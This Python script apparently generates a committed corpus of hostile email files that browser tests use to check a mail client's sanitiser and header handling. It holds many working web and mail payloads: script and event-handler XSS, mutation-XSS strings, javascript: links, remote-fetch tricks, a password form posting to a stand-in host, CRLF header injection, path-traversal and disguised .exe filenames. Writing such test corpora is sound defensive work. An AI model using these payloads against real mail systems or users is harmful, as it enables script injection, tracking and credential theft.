"""Writes the hostile mails of tests/corpus/mails/hostile: `python -m tests.corpus.make_mails`.

Each mail carries one trick. Were it to work, a script would set `window.broken`, or something would be fetched from
`foreign.invalid`. The browser tests open all of them and look for either. The files are committed; a test compares.
"""
# ruff: noqa: E501 - a trick is easier to recognise on one line

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

FOLDER = Path(__file__).parent / "mails" / "hostile"
SCRIPT = "<script>window.broken=1</script>"
IMAGE = "<img src=x onerror=window.broken=1>"
BOTH = f"\"'>{SCRIPT}{IMAGE}<svg onload=window.broken=1>"
FOREIGN = "https://foreign.invalid"
HEAD = {
    "From": "Eva <eva@customer.example>",
    "To": "support@hilo.example",
    "Subject": "Hello",
    "Date": "Mon, 5 Jan 2026 10:00:00 +0000",
    "MIME-Version": "1.0",
}


def mail(name: str, headers: dict[str, str | bytes], body: str | bytes = "Hello\n") -> bytes:
    fields: dict[str, str | bytes] = {**HEAD, "Message-ID": f"<{name}@customer.example>", **headers}
    lines = [key.encode() + b": " + _bytes(value) for key, value in fields.items()]
    return b"\n".join([*lines, b"", _bytes(body)])


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def html(name: str, body: str) -> bytes:
    return mail(name, {"Content-Type": "text/html; charset=utf-8"}, f"<p>Before</p>{body}<p>After</p>\n")


def attached(name: str, content_type: str, disposition: str, content: bytes) -> bytes:
    encoded = base64.encodebytes(content).decode()
    part = f"Content-Type: {content_type}\nContent-Disposition: {disposition}\nContent-Transfer-Encoding: base64\n\n"
    body = f"--cut\nContent-Type: text/plain\n\nHello\n--cut\n{part}{encoded}--cut--\n"
    return mail(name, {"Content-Type": "multipart/mixed; boundary=cut"}, body)


def encoded_word(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?B?{base64.b64encode(text.encode()).decode()}?="


# Attack list 1: script in every header.
HEADERS: dict[str, dict[str, str | bytes]] = {
    "subject": {"Subject": BOTH},
    "subject-encoded": {"Subject": encoded_word(BOTH)},
    "subject-raw-bytes": {"Subject": BOTH.encode() + b"\xff\xfe\x80"},
    "from-name": {"From": f'"{BOTH}" <eva@customer.example>'.replace("\"'>", "'>", 1)},
    "from-name-encoded": {"From": f"{encoded_word(BOTH)} <eva@customer.example>"},
    "from-address": {"From": f'"{SCRIPT}"@customer.example'},
    "from-comment": {"From": f"eva@customer.example ({SCRIPT})"},
    "reply-to": {"Reply-To": f"{encoded_word(BOTH)} <{IMAGE.replace(' ', '/')}@customer.example>"},
    "to-and-cc": {"To": f"{encoded_word(BOTH)} <support@hilo.example>", "Cc": f"{SCRIPT} <c@customer.example>"},
    "message-id": {"Message-ID": f"<{IMAGE.replace(' ', '/')}@customer.example>"},
    "references": {"References": f"<{IMAGE.replace(' ', '/')}@a.example>", "In-Reply-To": f"<{SCRIPT}@a.example>"},
    "date": {"Date": f"Mon, 5 Jan 2026 10:00:00 +0000 ({SCRIPT})"},
    "charset": {"Content-Type": f'text/plain; charset="{SCRIPT}"'},
    "content-type": {"Content-Type": f"{IMAGE}; charset=utf-8"},
    "user-agent": {"User-Agent": BOTH, "X-Mailer": BOTH, "List-Id": BOTH, "Organization": BOTH},
    "thread-index": {"Thread-Index": BOTH, "Thread-Topic": BOTH},
    "auto-submitted": {"Auto-Submitted": f"auto-replied; {SCRIPT}", "Precedence": SCRIPT},
    # Attack list 46: what would end a header line further on.
    "bare-cr": {"Subject": b"one\rBcc: victim@customer.example"},
    "encoded-crlf": {"Subject": encoded_word("one\r\nBcc: victim@customer.example\r\n\r\n<b>body")},
    "nul-and-separators": {
        "Subject": encoded_word("a\x00b\u2028c\u2029d\x85e"),
        "From": b"E\x00va <eva@customer.example>",
    },
    "direction-override": {"Subject": encoded_word("invoice \u202egnp.exe")},
    "template-syntax": {"Subject": "{{ 7|add:7 }} {% debug %} ${7*7} #{7*7} %(message)s"},
}

# Attack lists 5, 6, 7 and 12: HTML that sanitisers have let through, and everything that fetches.
BODIES: dict[str, str] = {
    "script": SCRIPT,
    "nested-script": "<scr<script>ipt>window.broken=1</scr</script>ipt>",
    "event-handlers": "".join(f"<b on{event}=window.broken=1>{event}</b>" for event in ("click", "mouseover", "focus"))
    + IMAGE,
    "autofocus": "<input autofocus onfocus=window.broken=1><details open ontoggle=window.broken=1>x</details>",
    "javascript-links": "".join(
        f'<a href="{url}">link</a>'
        for url in (
            "javascript:window.broken=1",
            "JaVa\tScRiPt:window.broken=1",
            "&#1;javascript:window.broken=1",
            "data:text/html,<script>window.broken=1</script>",
            "vbscript:x",
            "java&#x0A;script:window.broken=1",
        )
    ),
    "svg": "<svg><script>window.broken=1</script><animate onbegin=window.broken=1 attributeName=x dur=1s></svg>",
    "svg-smil": f'<svg><image href="{FOREIGN}/a"><set attributeName=href to="{FOREIGN}/b"/></image></svg>',
    "math": '<math><mi xlink:href="javascript:window.broken=1">x</mi><annotation-xml encoding="text/html">'
    + IMAGE
    + "</math>",
    "mxss-noscript": f'<noscript><p title="</noscript>{IMAGE}">',
    "mxss-style": f'<svg></p><style><a id="</style>{IMAGE}">',
    "mxss-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;{IMAGE[1:-1]}&gt;">',
    "mxss-form": f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>{IMAGE}">',
    "mxss-template": f"<template><s><template><s>{IMAGE}</s></template></s></template>",
    "mxss-title": f'<title><p title="</title>{IMAGE}">',
    "iframe": f"<iframe srcdoc='{SCRIPT}'></iframe><iframe src=\"{FOREIGN}/frame\"></iframe>",
    "object-embed": f'<object data="{FOREIGN}/o"></object><embed src="{FOREIGN}/e"><applet code=x></applet>',
    "form": f'<form action="{FOREIGN}/steal"><input name=password type=password><button formaction="{FOREIGN}/b">Sign in</button></form>',
    "meta-refresh": f'<meta http-equiv=refresh content="0;url={FOREIGN}/meta"><base href="{FOREIGN}/">',
    "link-and-import": f'<link rel=stylesheet href="{FOREIGN}/l.css"><style>@import url({FOREIGN}/i.css);</style>',
    "remote-image": f'<img src="{FOREIGN}/pixel.gif" width=1 height=1><img srcset="{FOREIGN}/set.png 2x">',
    "image-spellings": f'<img src="//foreign.invalid/a"><img src=" {FOREIGN}/b"><img src="/\\foreign.invalid/c"><image src="{FOREIGN}/d">',
    "image-placeholder-forged": f'<img data-remote-src="javascript:window.broken=1" src="{FOREIGN}/x"><img data-attachment="../../x">',
    "style-urls": "".join(
        f'<div style="{style}">x</div>'
        for style in (
            f"background:url({FOREIGN}/1)",
            f"background-image:\\75rl({FOREIGN}/2)",
            f"list-style:url({FOREIGN}/3)",
            f"content:url({FOREIGN}/4)",
            f"cursor:url({FOREIGN}/5),auto",
            "width:expression(window.broken=1)",
            f"background-color:image-set('{FOREIGN}/6' 1x)",
            "-moz-binding:url(x)",
            "position:fixed;inset:0",
        )
    ),
    "legacy-backgrounds": f'<body background="{FOREIGN}/bg"><table background="{FOREIGN}/t"><tr><td background="{FOREIGN}/td">x</table>',
    "media": f'<video src="{FOREIGN}/v" poster="{FOREIGN}/p" autoplay></video><audio src="{FOREIGN}/a"></audio><bgsound src="{FOREIGN}/b">',
    "ping-and-prefetch": f'<a href="https://customer.example/" ping="{FOREIGN}/ping">x</a><link rel=prefetch href="{FOREIGN}/pf">',
    "dom-clobbering": "<a id=csrftoken name=htmx>x</a><img name=body><form id=document></form>",
    "htmx": f'<div hx-get="{FOREIGN}/h" hx-trigger=load hx-on:load="window.broken=1" data-hx-get="{FOREIGN}/d">x</div>',
    "islands": '<div data-island="palette" data-live-topics="conversation:1" data-live-refresh>x</div>',
    "conditional-comment": f"<!--[if true]>{SCRIPT}<![endif]--><!-- --!>{IMAGE}<!-- >",
    "cdata": f"<![CDATA[{SCRIPT}]]><?xml version=1?>{IMAGE}",
    "null-bytes": f"<scr\x00ipt>window.broken=1</script><im\x00g src=x onerror=window.broken=1>{IMAGE}",
    "entities": "&lt;script&gt;window.broken=1&lt;/script&gt; &amp;lt;img src=x onerror=window.broken=1&amp;gt;",
    "breaks-out-of-frame": '"></iframe>' + SCRIPT + "</textarea></title></style></script>" + IMAGE,
    "data-image-svg": '<img src="data:image/svg+xml,'
    + quote("<svg xmlns='http://www.w3.org/2000/svg' onload='window.broken=1'/>")
    + '">',
    "popup-target": '<a href="https://customer.example/" target=_top rel=opener>x</a>',
}

# Attack lists 1, 4 and 55: names and kinds of attachments.
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>window.broken=1</script><image href="{FOREIGN}/s"/></svg>'.encode()
SPLIT = "a\r\nSet-Cookie: x=1\r\n\r\n<b>"
PAGE = f"<!doctype html>{SCRIPT}{IMAGE}".encode()
FILES: dict[str, tuple[str, str, bytes]] = {
    "file-name-script": ("image/png", f'attachment; filename="{IMAGE}.png"', b"\x89PNG"),
    "file-name-encoded": ("image/png", f"attachment; filename*=utf-8''{quote(BOTH)}.png", b"\x89PNG"),
    "file-name-words": (f'image/png; name="{encoded_word(BOTH)}"', "attachment", b"\x89PNG"),
    "file-name-path": ("text/plain", 'attachment; filename="../../../etc/cron.d/x"', b"x"),
    "file-name-windows-path": ("text/plain", 'attachment; filename="C:\\\\windows\\\\x.exe"', b"x"),
    "file-name-direction": (
        "application/octet-stream",
        f"attachment; filename*=utf-8''{quote('cod' + chr(0x202E) + 'gpj.exe')}",
        b"x",
    ),
    "file-name-header-injection": ("text/plain", f"attachment; filename*=utf-8''{quote(SPLIT)}", b"x"),
    "file-name-long": ("text/plain", f'attachment; filename="{"a" * 4000}.txt"', b"x"),
    "file-svg": ("image/svg+xml", 'attachment; filename="logo.svg"', SVG),
    "file-svg-inline": ("image/svg+xml", 'inline; filename="logo.svg"', SVG),
    "file-html": ("text/html", 'attachment; filename="page.html"', PAGE),
    "file-xhtml": ("application/xhtml+xml", 'attachment; filename="page.xhtml"', PAGE),
    "file-html-as-image": ("image/png", 'inline; filename="photo.png"', PAGE),
    "file-type-script": (f'"{SCRIPT}"/x', 'attachment; filename="a.bin"', b"x"),
    "file-tnef": ("application/ms-tnef", 'attachment; filename="winmail.dat"', b"\x78\x9f\x3e\x22" + PAGE),
}


def inline_svg() -> bytes:
    body = (
        '--cut\nContent-Type: text/html\n\n<p>See <img src="cid:logo"></p>\n--cut\nContent-Type: image/svg+xml\n'
        f"Content-ID: <logo>\nContent-Disposition: inline; filename=logo.svg\n\n{SVG.decode()}\n--cut--\n"
    )
    return mail("inline-svg", {"Content-Type": "multipart/related; boundary=cut"}, body)


def attached_mail() -> bytes:
    inner = html("inner", SCRIPT + IMAGE).decode().replace("Subject: Hello", f"Subject: {BOTH}")
    body = f"--cut\nContent-Type: text/plain\n\nSee below\n--cut\nContent-Type: message/rfc822\n\n{inner}\n--cut--\n"
    return mail("attached-mail", {"Content-Type": "multipart/mixed; boundary=cut"}, body)


def utf7() -> bytes:
    text = "+ADw-script+AD4-window.broken=1+ADw-/script+AD4-"
    return mail(
        "utf-7", {"Content-Type": "text/html; charset=utf-7", "Subject": f"=?utf-7?Q?{text}?="}, f"<p>{text}</p>\n"
    )


def mails() -> Iterator[tuple[str, bytes]]:
    for name, headers in HEADERS.items():
        yield f"header-{name}", mail(f"header-{name}", headers)
    for name, body in BODIES.items():
        yield f"html-{name}", html(f"html-{name}", body)
    for name, (content_type, disposition, content) in FILES.items():
        yield name, attached(name, content_type, disposition, content)
    yield "inline-svg", inline_svg()
    yield "attached-mail", attached_mail()
    yield "utf-7", utf7()


def main() -> None:
    FOLDER.mkdir(parents=True, exist_ok=True)
    for name, data in mails():
        (FOLDER / f"{name}.eml").write_bytes(data)


if __name__ == "__main__":
    main()
